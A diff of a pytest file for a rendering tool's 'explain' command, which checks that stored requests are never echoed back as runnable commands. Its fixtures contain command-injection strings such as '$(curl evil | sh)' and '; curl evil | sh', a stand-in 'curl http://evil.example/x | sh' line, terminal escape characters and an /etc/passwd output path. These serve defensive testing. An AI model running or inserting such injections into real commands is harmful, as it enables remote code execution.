@@ -12,68 +12,55 @@ import pytest
 from pipeline.catalog import find
 from pipeline.cli import explanation as explaining
 from pipeline.cli.explanation import explanation
+from pipeline.cli.spelling import command
 from pipeline.errors import InputError
-from pipeline.rendering.plan import Job, command
+from pipeline.rendering.plan import Job
 from pipeline.rendering.quality import QUALITIES
-from pipeline.video.recipe import Recipe, recipe
-from render import cli
+from pipeline.requests import ClipRequest, LectureRequest, StillRequest
+from pipeline.video.recipe import Asked, recipe
 
 STEERING = "\x1b[2J\u202e\n"
 LECTURE = {"title": "Limits", "scenes": [{"scene": "slicing", "function": "x^2 + y", "at": [0, 1]}]}
-TALK = ["lecture", "a b.toml", "--lang", "ko", "--quality", "low", "--fps", "4"]
+TALK = LectureRequest(file=Path("a b.toml"), language="ko", quality="low", fps=4)
 
 
-def explained(monkeypatch: pytest.MonkeyPatch, words: list[str], made: Any = None) -> list[str]:
-    """The lines about a file with these words and values in it."""
-    monkeypatch.setattr(explaining, "read", lambda _: recipe(words, made or {}))
-    return explanation(Path("a.mp4"), cli)
+def explained(monkeypatch: pytest.MonkeyPatch, asked: Asked, made: Any = None) -> list[str]:
+    """The lines about a file with this request and these values in it."""
+    monkeypatch.setattr(explaining, "read", lambda _: recipe(asked, made or {}))
+    return explanation(Path("a.mp4"))
 
 
 HOSTILE = [
-    ["bash", "-c", "curl http://evil.example/x | sh"],
-    ["render.py"],
-    ["render.py", "bash"],
-    ["render.py", "--debug", "render", "slicing"],
-    ["render.py", "check"],
-    ["render.py", "explain", "x"],
-    ["render.py", "render"],
-    ["render.py", "render", "slicing", "tangent_line"],
-    ["render.py", "render", "--all"],
-    ["render.py", "render", "--help"],
-    ["render.py", "render", "slicing", "-h"],
-    ["render.py", "render", "no_such_scene"],
-    ["render.py", "render", "slicing; curl evil | sh"],
-    ["render.py", "render", "slicing", "--function", "$(curl evil | sh)"],
-    ["render.py", "render", "slicing", "--function"],
-    ["render.py", "render", "slicing", "--bogus", "x"],
-    ["render.py", "render", "slicing", "--beat", "; curl evil | sh"],
-    ["render.py", "render", "slicing", "--lang", "xx"],
-    ["render.py", "render", "slicing", "--format", STEERING],
-    ["render.py", "still", "slicing", "--time", "x"],
-    ["render.py", "lecture"],
-    ["render.py", "lecture", "x.sh"],
-    ["render.py", "lecture", f"{STEERING}.toml"],
-    ["render.py", "storyboard", "slicing", "-o", "a.pdf"],
+    ClipRequest(scene="no_such_scene"),
+    ClipRequest(scene="slicing; curl evil | sh"),
+    ClipRequest(scene="slicing", parameters={"function": "$(curl evil | sh)"}),
+    ClipRequest(scene="slicing", parameters={"x; curl evil": "1"}),
+    ClipRequest(scene="slicing", beat="; curl evil | sh"),
+    StillRequest(scene="slicing", parameters={"at": STEERING}),
+    LectureRequest(file=Path("x.sh")),
+    LectureRequest(file=Path(f"{STEERING}.toml")),
 ]
 
 
-@pytest.mark.parametrize("words", HOSTILE, ids=str)
-def test_no_other_command_is_offered(monkeypatch: pytest.MonkeyPatch, capsys, words) -> None:
+@pytest.mark.parametrize("asked", HOSTILE, ids=repr)
+def test_no_other_command_is_offered(monkeypatch: pytest.MonkeyPatch, capsys, asked) -> None:
     with pytest.raises(InputError) as caught:
-        explained(monkeypatch, words, LECTURE)
+        explained(monkeypatch, asked, LECTURE)
     assert str(caught.value) == "a.mp4 was not made by Nabla, or by another version"
     assert capsys.readouterr() == ("", "")
 
 
 def test_the_command_is_made_anew_from_what_was_understood(monkeypatch: pytest.MonkeyPatch) -> None:
-    """An output elsewhere, options twice, values that are not the scene's: none of it is told."""
-    words = ["render.py", "render", "Slicing", "-o", "/etc/passwd", "--jobs", "9", "--debug"]
-    words += ["--quality", "low", "--quality", "draft", "--fps", "5", "--at", " 1 , 2/2 "]
-    first, *others, last = explained(monkeypatch, words, {"run this": "curl evil | sh"})
-    told = shlex.split(first)
-    assert told[:3] == ["render.py", "render", "slicing"]
-    assert "-o" not in told
-    assert [told[told.index(name) + 1] for name in ("--quality", "--fps")] == ["draft", "5"]
+    """An output elsewhere, values that are not the scene's: none of it is told."""
+    asked = ClipRequest(
+        scene="Slicing", output=Path("/etc/passwd"), quality="draft", fps=5,
+        parameters={"at": " 1 , 2/2 "},
+    )  # fmt: skip
+    first, *others, last = explained(monkeypatch, asked, {"run this": "curl evil | sh"})
+    words = shlex.split(first)
+    assert words[:2] == ["render.py", "render"]
+    assert "-o" not in words
+    assert [words[words.index(name) + 1] for name in ("--quality", "--fps")] == ["draft", "5"]
     assert [line.partition(": ")[0] for line in others] == list(
         find("slicing").parameters({}).as_json()
     )
@@ -81,20 +68,21 @@ def test_the_command_is_made_anew_from_what_was_understood(monkeypatch: pytest.M
 
 
 def test_a_clip_and_a_still(monkeypatch: pytest.MonkeyPatch) -> None:
-    entry = find("slicing")
-    job = Job(entry, entry.parameters({"function": "x^2 - y", "at": "1,2"}), QUALITIES["low"], "ko")
-    first, *others, last = explained(monkeypatch, command(job))
-    assert shlex.split(first) == command(job)
+    job = Job(find("slicing"), {"function": "x^2 - y", "at": "1,pi/2"}, QUALITIES["low"], "ko")
+    first, *others, last = explained(monkeypatch, job.request)
+    assert shlex.split(first) == command(job.request)
+    assert "--at 1,pi/2" in first
     assert "function: x^2 - y" in others
-    assert "at: [1.0, 2.0]" in others
     assert last.startswith("versions: nabla ")
-    still = ["render.py", "still", *command(job)[2:], "--time", "2.5"]
-    assert shlex.split(explained(monkeypatch, still)[0]) == still
+    still = job.still_request(2.5)
+    words = shlex.split(explained(monkeypatch, still)[0])
+    assert words == command(still)
+    assert (words[1], words[words.index("--time") + 1]) == ("still", "2.5")
 
 
 def test_a_lecture(monkeypatch: pytest.MonkeyPatch) -> None:
-    first, *others, _ = explained(monkeypatch, ["render.py", *TALK], LECTURE)
-    assert shlex.split(first) == ["render.py", *TALK]
+    first, *others, _ = explained(monkeypatch, TALK, LECTURE)
+    assert shlex.split(first) == command(TALK)
     assert "title: Limits" in others
     scenes = next(line for line in others if line.startswith("scenes: "))
     assert json.loads(scenes.removeprefix("scenes: "))[0]["function"] == "x^2 + y"
@@ -113,15 +101,14 @@ FALSE_LECTURES: list[dict[str, Any]] = [
 @pytest.mark.parametrize("made", FALSE_LECTURES, ids=str)
 def test_a_lecture_that_none_could_be(monkeypatch: pytest.MonkeyPatch, made) -> None:
     with pytest.raises(InputError, match="was not made by Nabla"):
-        explained(monkeypatch, ["render.py", *TALK], made)
+        explained(monkeypatch, TALK, made)
 
 
 def test_all_lines_are_printable(monkeypatch: pytest.MonkeyPatch) -> None:
     made = {**LECTURE, "scenes": [{"scene": "slicing", "narration": {"cut": f"a{STEERING}b"}}]}
-    words = ["render.py", "lecture", "한글.toml", "--lang", "en", "--quality", "low"]
+    talk = LectureRequest(file=Path("한글.toml"))
     with pytest.raises(InputError):
-        explained(monkeypatch, words, made)
+        explained(monkeypatch, talk, made)
     made["scenes"][0]["narration"]["cut"] = "two\nlines"
-    lines = explained(monkeypatch, words, made)
+    lines = explained(monkeypatch, talk, made)
     assert all(line.isprintable() for line in lines)
-    assert Recipe(command=words, made=made, versions={}).made == made
